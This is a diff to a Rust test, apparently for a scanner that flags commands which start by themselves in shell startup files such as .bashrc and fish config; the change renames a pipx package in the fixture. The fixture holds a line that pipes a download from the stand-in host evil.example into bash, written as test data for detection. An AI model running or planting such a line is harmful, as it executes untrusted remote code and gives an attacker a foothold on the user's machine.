@@ -138,7 +138,7 @@ mod tests {
 
     #[test]
     fn what_a_shell_reads_starts_by_itself() {
-        let text = "# PAYLOAD\nexport A=1\n(curl -s https://evil.example/x | bash) &\nnode ~/x PAYLOAD\npipx run x==1.0\n~/v/bin/python ~/a.py &\n";
+        let text = "# PAYLOAD\nexport A=1\n(curl -s https://evil.example/x | bash) &\nnode ~/x PAYLOAD\npipx run tool==1.0\n~/v/bin/python ~/a.py &\n";
         for path in [
             "home/ada/.bashrc",
             "root/.profile",
@@ -148,7 +148,7 @@ mod tests {
             "home/ada/.config/fish/conf.d/x.fish",
             "home/ada/.config/fish/config.fish",
         ] {
-            let expected = ["evil.example Starts:3", "PAYLOAD Starts:4", "pipx x:5", "Start ~/v"];
+            let expected = ["evil.example Starts:3", "PAYLOAD Starts:4", "pipx tool:5", "Start ~/v"];
             assert_eq!(said(path, text), expected, "{path}");
         }
     }
